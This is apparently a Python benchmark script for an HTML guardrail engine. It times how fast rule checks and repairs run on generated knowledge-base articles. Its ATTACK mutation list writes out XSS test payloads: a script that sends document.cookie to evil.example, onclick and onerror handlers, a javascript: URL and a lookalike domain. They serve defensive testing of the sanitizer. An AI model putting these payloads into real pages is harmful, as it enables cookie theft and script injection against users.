"""Benchmark: the html_template rules (check) and check plus repair on ~5 KB outputs; prints p50/p99.

Run: python tests/bench/bench_html.py [--n 200] [--repeat 5]

Outputs fill a knowledge-article template (fixtures/html/bench/kb-article.html, registered here with the
bundled html rule pack) with generated text: six sections of paragraphs, links, emphasis and lists. Three
sets of n x repeat distinct outputs each: conforming outputs (check only, repair off), straying outputs
(check + repair: unmarked sections, chatter, reordering, over-long sections) and attacking outputs (check +
repair: script, handlers, javascript: URLs, foreign links). Seeded, so runs are comparable. A second table
runs the shipped `html` policy (html and text packs, repair on) on the fixture outputs
(fixtures/html/<template>/*.html), by class, x repeat x 10 passes.

With --cold the check's caches (parsed attribute texts, clean-attribute and URL verdicts) are emptied before
every call: the worst case. Without it, the caches help where real outputs repeat too (the template's class
names and slot markers): every generated link is unique.

Times are CPU time of this thread (time.thread_time), so the load of a shared machine inflates them less
than wall-clock would; "check" is the first pass of every rule of the policy on the output (what the
engine's deadlines and the 1 ms budget are about), "validate" the whole Engine.validate call (check,
repair rounds, re-checks, report).
"""

from __future__ import annotations

import argparse
import random
import shutil
import sys
import tempfile
import time
from pathlib import Path
from typing import Any

import yaml

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from guardrails import Context, Engine  # noqa: E402
from guardrails.checks._html import caches as html_caches  # noqa: E402
from guardrails.checks._html import native_state, running_native  # noqa: E402
from guardrails.checks.base import Deadline, RunContext  # noqa: E402
from guardrails.document import Document  # noqa: E402
from guardrails.rules.loader import load_ruleset  # noqa: E402

WORDS = [
    "account",
    "billing",
    "invoice",
    "export",
    "setting",
    "profile",
    "device",
    "network",
    "password",
    "session",
    "token",
    "release",
    "update",
    "storage",
    "backup",
    "region",
    "latency",
    "request",
    "response",
    "limit",
    "quota",
    "dashboard",
    "report",
    "filter",
    "column",
    "schedule",
    "the",
    "a",
    "of",
    "to",
    "and",
    "in",
    "for",
    "with",
    "on",
    "is",
    "are",
    "can",
    "you",
    "your",
    "we",
    "this",
    "that",
    "it",
    "be",
    "by",
    "from",
    "as",
    "at",
    "or",
]
TEMPLATE = {
    "file": str(ROOT / "fixtures" / "html" / "bench" / "kb-article.html"),
    "slots": {
        "title": {"text_only": True, "max_chars": 120},
        "lede": {"allowed_tags": ["strong", "em"], "max_chars": 400},
        "section": {
            "label": "section",
            "repeated": True,
            "max_items": 12,
            "allowed_tags": ["h3", "p", "strong", "em", "code", "a", "ul", "li", "br"],
            "max_chars": 900,
            "links": {"schemes": ["https"], "domains": ["docs.example.com", "help.example.com"]},
        },
        "source": {
            "required": False,
            "repeated": True,
            "max_items": 8,
            "allowed_tags": ["a"],
            "links": {"schemes": ["https"], "domains": ["docs.example.com", "help.example.com"]},
        },
    },
}


def sentence(rng: random.Random, n: int) -> str:
    words = [rng.choice(WORDS) for _ in range(n)]
    return " ".join(words).capitalize() + "."


def link(rng: random.Random, site: str) -> str:
    """A link no other output repeats (an article id), so per-process caches of attribute and URL verdicts only
    help where real outputs repeat too: the template's class names and slot markers."""
    return f"https://{site}.example.com/{rng.choice(WORDS)}/{rng.randrange(10**9)}"


def paragraph(rng: random.Random) -> str:
    parts = []
    for _ in range(rng.randint(2, 4)):
        s = sentence(rng, rng.randint(6, 14))
        roll = rng.random()
        if roll < 0.3:
            w = rng.choice(WORDS)
            s = s.replace(f" {w} ", f" <strong>{w}</strong> ", 1)
        elif roll < 0.5:
            s += f' See <a href="{link(rng, "docs")}">{rng.choice(WORDS)} docs</a>.'
        parts.append(s)
    return "<p>" + " ".join(parts) + "</p>"


def article(rng: random.Random, target: int = 5000) -> str:
    sections = []
    total = 0
    while total < target - 900 and len(sections) < 12:
        body = f"<h3>{sentence(rng, 4)}</h3>" + "".join(paragraph(rng) for _ in range(rng.randint(1, 2)))
        if rng.random() < 0.4:
            body += "<ul>" + "".join(f"<li>{sentence(rng, 5)}</li>" for _ in range(3)) + "</ul>"
        body = body[:880] if len(body) < 880 else body
        if len(body) > 880:
            continue
        sections.append(f'    <div class="section" data-slot="section">{body}</div>')
        total += len(sections[-1])
    sources = "\n".join(
        f'    <li data-slot="source"><a href="{link(rng, "help")}">{sentence(rng, 3)}</a></li>' for _ in range(3)
    )
    return (
        '<article class="kb-article">\n'
        f'  <h1 class="title" data-slot="title">{sentence(rng, 6)}</h1>\n'
        f'  <p class="lede" data-slot="lede">{sentence(rng, 20)}</p>\n'
        '  <section class="body">\n' + "\n".join(sections) + "\n  </section>\n  <h2>Sources</h2>\n"
        '  <ul class="sources">\n' + sources + "\n  </ul>\n</article>\n"
    )


STRAY = [
    lambda t, r: "Sure! Here is the article you asked for:\n" + t + "\nAnything else?",
    lambda t, r: t.replace(' data-slot="section"', "", 2),
    lambda t, r: t.replace("</p>", "", 1),
    lambda t, r: t.replace('<h1 class="title" data-slot="title">', '<h1 class="title" data-slot="headline">'),
    lambda t, r: t.replace("</section>", '<div data-slot="title">Late title</div></section>'),
]
ATTACK = [
    lambda t, r: t.replace("</p>", "<script>fetch('//evil.example/?'+document.cookie)</script></p>", 1),
    lambda t, r: t.replace("<p>", '<p onclick="steal()">', 2),
    lambda t, r: t.replace('href="https://docs.example.com/', 'href="javascript:alert(1)//', 1),
    lambda t, r: t.replace("https://help.example.com/", "https://help.example.com.evil.example/", 1),
    lambda t, r: t.replace("<strong>", '<strong style="display:none"><img src=x onerror=alert(1)>', 1),
]


def mutate(text: str, rng: random.Random, ops: list[Any]) -> str:
    for op in rng.sample(ops, k=rng.randint(1, 3)):
        text = op(text, rng)
    return text


def build_engine(repair: bool) -> Engine:
    pack = yaml.safe_load((ROOT / "rules" / "html.yaml").read_text(encoding="utf-8"))
    for rule in pack["rules"]:
        kb = {**TEMPLATE, "file": "templates/kb-article.html"}
        rule["params"] = {**rule["params"], "templates": {**rule["params"]["templates"], "kb-article": kb}}
        rule["examples"] = {}
    tmp = Path(tempfile.mkdtemp(prefix="bench_html_"))
    # Copies, not links: rules read only files inside their own directory tree.
    shutil.copytree(ROOT / "rules" / "templates", tmp / "templates")
    shutil.copy(TEMPLATE["file"], tmp / "templates" / "kb-article.html")
    (tmp / "html.yaml").write_text(yaml.safe_dump(pack), encoding="utf-8")
    (tmp / "policies").mkdir()
    policy = {"name": "bench", "rules": ["pack:html"], "repair": {"enabled": repair, "max_rounds": 4}}
    (tmp / "policies" / "bench.yaml").write_text(yaml.safe_dump(policy), encoding="utf-8")
    return Engine.from_policy("bench", ruleset=load_ruleset([tmp], include_bundled=False))


def pct(values: list[float], q: float) -> float:
    ordered = sorted(values)
    return ordered[min(len(ordered) - 1, round(q / 100 * (len(ordered) - 1)))]


def check_ms(engine: Engine, text: str, ctx: Context, cold: bool = False) -> float:
    """CPU ms of every rule's check on `text`, as the engine's first pass runs them (one shared Document)."""
    run_ctx = RunContext(ctx, Deadline(None))
    if cold:
        html_caches.clear()
    t0 = time.thread_time()
    doc = Document(text)
    for compiled in engine.rules:
        for _hit in compiled.check.run(doc, run_ctx):
            pass
    return (time.thread_time() - t0) * 1000


def run(
    engine: Engine, cases: list[tuple[str, Context]], repeat: int, cold: bool, warmup: list[tuple[str, Context]]
) -> tuple[list[float], list[float], dict[str, int]]:
    for text, ctx in warmup:
        engine.validate(text, ctx)
    checks: list[float] = []
    totals: list[float] = []
    verdicts: dict[str, int] = {}
    for _ in range(repeat):
        for text, ctx in cases:
            checks.append(check_ms(engine, text, ctx, cold))
            if cold:
                html_caches.clear()
            t0 = time.thread_time()
            report = engine.validate(text, ctx)
            totals.append((time.thread_time() - t0) * 1000)
            verdicts[report.verdict.value] = verdicts.get(report.verdict.value, 0) + 1
    return checks, totals, verdicts


def row(
    label: str,
    engine: Engine,
    cases: list[tuple[str, Context]],
    repeat: int,
    cold: bool,
    warmup: list[tuple[str, Context]] | None = None,
) -> None:
    checks, totals, verdicts = run(engine, cases, repeat, cold, cases[:20] if warmup is None else warmup)
    print(
        f"{label:<38} {pct(checks, 50):>10.3f} {pct(checks, 99):>10.3f} "
        f"{pct(totals, 50):>10.3f} {pct(totals, 99):>10.3f}  {verdicts}"
    )


HEADER = f"{'set':<38} {'check p50':>10} {'check p99':>10} {'total p50':>10} {'total p99':>10}  verdicts"


def fixture_cases() -> dict[str, list[tuple[str, Context]]]:
    """The fixture outputs by class (follows, strays, attacks), each with its template (the folder name)."""
    classes: dict[str, list[tuple[str, Context]]] = {"follows": [], "strays": [], "attacks": []}
    for path in sorted((ROOT / "fixtures" / "html").glob("*/*-*.html")):
        kind = path.name.split("-", 1)[0]
        if kind in classes:
            classes[kind].append((path.read_text(encoding="utf-8"), Context(template=path.parent.name)))
    return classes


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--n", type=int, default=200, help="outputs per set and pass")
    parser.add_argument("--repeat", type=int, default=5, help="passes (each over new outputs)")
    parser.add_argument(
        "--cold", action="store_true", help="empty the check's caches (attribute parses and verdicts) before each call"
    )
    args = parser.parse_args()
    rng = random.Random(1234)
    # Every measured output is new (its links unseen): n x repeat distinct outputs per set, each checked once,
    # after a warm-up on 20 others. The total is measured on a second call, so its check sees the same links.
    count = args.n * args.repeat
    warmup = [(article(rng), Context(template="kb-article")) for _ in range(20)]
    conforming = [article(rng) for _ in range(count)]
    straying = [mutate(article(rng), rng, STRAY) for _ in range(count)]
    attacking = [mutate(article(rng), rng, ATTACK) for _ in range(count)]
    size = sum(map(len, conforming)) / len(conforming)
    check_only, with_repair = build_engine(False), build_engine(True)
    kb = Context(template="kb-article")
    caches = "caches emptied before every call" if args.cold else "warm caches"
    print(f"{count} distinct outputs per set, mean {size:.0f} chars, {len(check_only.rules)} html rules, " + caches)
    print(f"html scanner: {native_state()}" + ("" if running_native() else " (running as Python)"))
    print(HEADER)
    for label, engine, outputs in (
        ("conforming (check only)", check_only, conforming),
        ("straying (check + repair)", with_repair, straying),
        ("attacking (check + repair)", with_repair, attacking),
    ):
        row(label, engine, [(o, kb) for o in outputs], 1, args.cold, warmup)
    shipped = Engine.from_policy("html")
    classes = fixture_cases()
    passes = max(20, args.repeat * 10)
    print(f"\nshipped html policy ({len(shipped.rules)} rules) on fixtures/html, x{passes} passes")
    print(HEADER)
    for kind, cases in classes.items():
        mean = sum(len(t) for t, _ in cases) / len(cases)
        row(f"{kind} ({len(cases)} files, mean {mean:.0f} chars)", shipped, cases, passes, args.cold)
    print("ms of CPU time; budget: check p50 <= 1 ms on 5 KB outputs")


if __name__ == "__main__":
    main()
